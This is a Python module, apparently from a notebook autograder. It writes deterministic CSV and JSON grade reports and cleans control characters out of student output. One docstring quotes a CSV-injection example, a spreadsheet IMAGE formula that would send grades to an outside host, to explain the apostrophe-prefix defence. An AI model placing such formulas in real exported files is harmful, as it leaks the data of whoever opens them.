"""grades.csv and grades.json: one row per (student, notebook), a status and a reason for each.

Rows are sorted and carry no timestamps, so that grading the same submissions
twice writes byte-identical reports. Reasons and messages quote what a student's
kernel printed, so every text is cleaned of control characters first: an ANSI
escape in a cell's first line must not rewrite the terminal's table.
"""
import csv
import io
import json
import os
import re
import unicodedata
from dataclasses import asdict
from pathlib import Path

COLUMNS = ("student", "notebook", "status", "score", "max_score", "reason")


def clean(value, one_line=False):
    """value without control or invisible formatting characters (ANSI escapes, carriage returns, bidi
    overrides); strings inside lists and dicts too. one_line: newlines and tabs become spaces."""
    if isinstance(value, dict):
        return {clean(k): clean(v, one_line) for k, v in value.items()}
    if isinstance(value, list):
        return [clean(v, one_line) for v in value]
    if not isinstance(value, str):
        return value
    if value.isascii():   # nearly every text: its only such characters are the C0 controls and DEL
        kept = ASCII_CONTROLS.sub("", value)
    else:
        kept = "".join(c for c in value if c in "\n\t" or unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Co"))
    return " ".join(kept.split()) if one_line else kept


ASCII_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f]")   # category Cc in ASCII, less newline and tab


def rows(results):
    """The report rows, sorted, with one column per item (its score)."""
    out = []
    for r in sorted(results, key=lambda r: (r.student, r.notebook)):
        row = {c: clean(getattr(r, c)) for c in COLUMNS}
        row.update({clean(item.grade_id): item.score for item in r.items})
        out.append(row)
    return out


def to_csv(results, order=None):
    """order: {notebook: [test grade_ids in the source notebook's order]}, which gives the item columns their
    order (a row without items, missing say, must not decide it); items it lacks follow, as the rows have them."""
    table = rows(results)
    listed = [clean(gid) for gids in (order or {}).values() for gid in gids]
    items = list(dict.fromkeys(listed + [k for row in table for k in row if k not in COLUMNS]))
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=[*COLUMNS, *items], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{k: inert(v) for k, v in row.items()} for row in table])
    return buf.getvalue()


def inert(value):
    """A CSV field that a spreadsheet shows as text, never runs: a student id (a folder name) such as
    =IMAGE("https://x/?"&C2) would otherwise send the instructor's grades away when the file is opened
    (OWASP's CSV injection: a text starting with = + - @ or a tab gets a leading apostrophe)."""
    return f"'{value}" if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def to_json(results):
    ordered = sorted(results, key=lambda r: (r.student, r.notebook))
    return json.dumps([clean(asdict(r)) for r in ordered], indent=1, sort_keys=True) + "\n"


def read(folder):
    """The Results stored in folder/grades.json (for `autograder grade --gradebook-only`)."""
    from .result import Result
    from .verdict import Item
    results = []
    for row in json.loads((Path(folder) / "grades.json").read_text(encoding="utf-8")):
        items = [Item(**{k: v for k, v in i.items() if k in Item.__dataclass_fields__}) for i in row["items"]]
        results.append(Result(**{k: v for k, v in row.items() if k in Result.__dataclass_fields__ and k != "items"},
                              items=items))
    return results


def write(results, folder, order=None):
    """Write grades.csv and grades.json into folder (order: as to_csv's); return their paths."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    paths = folder / "grades.csv", folder / "grades.json"
    for path, text in zip(paths, (to_csv(results, order), to_json(results))):
        write_whole(path, text)
    return paths


def write_whole(path, text):
    """Write text to path so that path holds either its old text or all of the new, never a part."""
    part = path.with_name(f".{path.name}.part")
    part.write_text(text, encoding="utf-8")
    os.replace(part, path)


def table(results):
    """A plain-text summary for the terminal: one line per (student, notebook)."""
    lines = [f"{'student':<22} {'notebook':<24} {'status':<16} {'score':>11}  reason"]
    for r in sorted(results, key=lambda r: (r.student, r.notebook)):
        score = f"{r.score:g}/{r.max_score:g}"
        student, notebook, reason = (clean(text, one_line=True) for text in (r.student, r.notebook, r.reason))
        lines.append(f"{student:<22} {notebook:<24} {r.status:<16} {score:>11}  {reason}")
    return "\n".join(lines)
